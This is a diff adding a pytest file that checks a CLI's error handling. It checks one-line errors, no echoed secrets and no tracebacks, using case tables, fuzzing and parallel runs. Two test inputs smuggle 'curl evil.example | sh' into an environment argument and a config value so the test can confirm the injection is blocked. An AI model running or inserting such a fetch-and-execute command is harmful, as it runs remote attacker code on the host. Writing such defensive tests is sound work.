@@ -1,0 +1,173 @@
+"""Guard rails of the command line, each beside the attack or accident it stops (issue: guard rails, items 9 and 11).
+
+Every error is one ``error:`` line on stderr with exit status 2: no traceback, and no value a person typed
+or a file held is repeated (a mistyped command line or a corrupt file can hold a token). The table below
+is the list a newcomer reads; the fuzz tests beneath it prove the same for inputs nobody listed.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from components.cli import main
+
+ROOT = Path(__file__).resolve().parent.parent
+CANARY = "ghp_CANARY0123456789abcdefCANARY0123456"
+STATE = ROOT / "tests" / "data" / "stack-export.json"
+EXAMPLE = ROOT / "examples" / "config" / "preview.json"
+
+
+@dataclass(frozen=True)
+class Case:
+    """One attack or accident: the command line (``{tmp}`` is a scratch directory) and what the error must say."""
+
+    argv: tuple[str, ...]
+    says: str
+    files: tuple[tuple[str, bytes], ...] = ()
+
+
+CASES: dict[str, Case] = {
+    # Raw tracebacks found by the adversarial pass
+    "warn-days-overflow": Case(("rotation", "--state", str(STATE), "--warn-days", "1000000000"), "from 0 to 3650 days"),
+    "readme-not-utf8": Case(("inventory", "--readme", "{tmp}/README.md"), "not UTF-8 text", (("README.md", b"\xff\xfe\x00bad"),)),
+    "rotation-doc-not-utf8": Case(("inventory", "--rotation-doc", "{tmp}/r.md"), "not UTF-8 text", (("r.md", b"\xff\xfe\x00bad"),)),
+    "state-not-utf8": Case(("rotation", "--state", "{tmp}/s.json"), "not UTF-8 text", (("s.json", b"\xff" + CANARY.encode()),)),
+    "config-not-json": Case(("preflight", "--stack", "production", "--config", "{tmp}/c.json"), "not valid JSON", (("c.json", CANARY.encode()),)),
+    "config-not-an-object": Case(("plan", "--stack", "production", "--config", "{tmp}/c.json"), "must be an object", (("c.json", b"[1]"),)),
+    "config-lone-surrogate": Case(
+        ("preflight", "--stack", "production", "--config", "{tmp}/c.json"),
+        "",
+        (("c.json", b'{"prometheus:authToken": {"value": "\\ud800' + CANARY.encode() + b'", "secret": true}}'),),
+    ),
+    # Values typed on the command line are never repeated
+    "unrecognized-argument": Case(("preflight", "--stack", "production", CANARY), "1 unrecognized argument(s) (not shown)"),
+    "invalid-choice": Case(("inventory", "--environment", CANARY), "invalid choice"),
+    "unknown-command": Case((CANARY,), "invalid choice"),
+    "missing-argument": Case(("plan",), "the following arguments are required: --stack"),
+    # secret-chain:escEnvironment and --esc-environment are pasted into printed commands: only a reference passes
+    "esc-environment-shell": Case(("rotation", "--state", str(STATE), "--esc-environment", "x; curl evil.example | sh"), "<org>/<project>/<env>"),
+}
+
+
+def _materialise(case: Case, tmp: Path) -> list[str]:
+    for name, content in case.files:
+        (tmp / name).write_bytes(content)
+    return [arg.replace("{tmp}", str(tmp)) for arg in case.argv]
+
+
+@pytest.mark.parametrize("name", list(CASES), ids=list(CASES))
+def test_each_guarded_error_is_one_line_without_values(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    case = CASES[name]
+    code = main(_materialise(case, tmp_path))
+    out, err = capsys.readouterr()
+    assert code in (1, 2) if name == "config-lone-surrogate" else code == 2
+    if code == 2:
+        lines = err.splitlines()
+        assert len(lines) == 1 and lines[0].startswith("error: "), err
+        assert case.says in lines[0]
+    assert "Traceback" not in out + err
+    assert "CANARY" not in out + err and "curl" not in out + err
+
+
+def test_a_shell_command_planted_in_esc_environment_never_reaches_a_printed_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    config = json.loads(EXAMPLE.read_text())
+    config["secret-chain:escEnvironment"] = {"value": "acme/x; curl evil.example | sh #", "secret": False}
+    config["prometheus:authToken"]["value"] = "x"  # malformed, so that its fix is printed
+    path = tmp_path / "c.json"
+    path.write_text(json.dumps(config))
+    code = main(["preflight", "--stack", "preview-pr-3", "--config", str(path)])
+    out, err = capsys.readouterr()
+    assert code == 1
+    assert "curl" not in out + err
+    assert 'config "secret-chain:escEnvironment"' in out  # reported as malformed itself
+    assert "pulumi env set <org>/secret-chain/Preview pulumiConfig.prometheus:authToken" in out
+    code = main(["plan", "--stack", "preview-pr-3", "--config", str(path)])
+    out, err = capsys.readouterr()
+    assert code == 2 and "curl" not in out + err
+
+
+# --- fuzz: the parser and the file readers --------------------------------------------------------------------
+
+WORDS = st.sampled_from(
+    [
+        "preflight", "plan", "inventory", "rotation", "--stack", "--config", "--json", "--environment", "--state",
+        "--warn-days", "--now", "--esc-environment", "--preview", "production", "preview-base", "preview-pr-7", "preview",
+        "-1", "99999999999999999999", "2026-13-45", "acme/secret-chain/Production", "", "\x00", "--", "-", "\udcff",
+    ]
+)  # fmt: skip
+TEXT = st.text(max_size=12)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(argv=st.lists(st.one_of(WORDS, TEXT), max_size=7))
+def test_fuzzed_command_lines_end_in_a_status_never_a_traceback(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    if any(a in ("plan",) for a in argv) and "--config" not in argv:
+        argv = [*argv, "--config", str(EXAMPLE)]  # never shell out to a pulumi CLI
+    try:
+        code = main(argv)
+    except SystemExit as exit_:  # --help prints and exits 0
+        assert exit_.code == 0
+        capsys.readouterr()
+        return
+    out, err = capsys.readouterr()
+    assert code in (0, 1, 2)
+    assert "Traceback" not in out + err
+    if code == 2:
+        assert len(err.splitlines()) == 1 and err.startswith("error: "), err
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(content=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode)), command=st.sampled_from(["preflight", "rotation"]))
+def test_fuzzed_files_end_in_a_status_never_a_traceback(content: bytes, command: str, tmp_path_factory: pytest.TempPathFactory) -> None:
+    path = tmp_path_factory.mktemp("fuzz") / "input.json"
+    path.write_bytes(content)
+    argv = ["preflight", "--stack", "production", "--config", str(path)] if command == "preflight" else ["rotation", "--state", str(path)]
+    proc_out: list[str] = []
+    import contextlib
+    import io
+
+    err, out = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
+        code = main(argv)
+    proc_out.append(err.getvalue())
+    assert code in (0, 1, 2)
+    assert "Traceback" not in out.getvalue() + err.getvalue()
+    if code == 2:
+        assert len(err.getvalue().splitlines()) == 1 and err.getvalue().startswith("error: ")
+
+
+# --- parallel runs: a clean stderr at exit ------------------------------------------------------------------
+
+
+def _plan(_: int) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "components", "plan", "--stack", "preview-pr-9", "--config", str(EXAMPLE)],
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        env={**os.environ, "PYTHONWARNINGS": "default"},
+        timeout=300,
+        check=False,
+    )
+
+
+def test_parallel_plans_exit_cleanly_with_an_empty_stderr() -> None:
+    """Four plans at once, three times: the offline evaluator's event loop was once left to the garbage collector,
+    which at exit printed ``Exception ignored in: <function BaseEventLoop.__del__ …>`` in about 1 run in 6."""
+    run: Callable[[int], subprocess.CompletedProcess[str]] = _plan
+    with ThreadPoolExecutor(max_workers=4) as pool:
+        results = [r for _ in range(3) for r in pool.map(run, range(4))]
+    for result in results:
+        assert result.returncode == 0, result.stderr
+        assert result.stderr == "", result.stderr
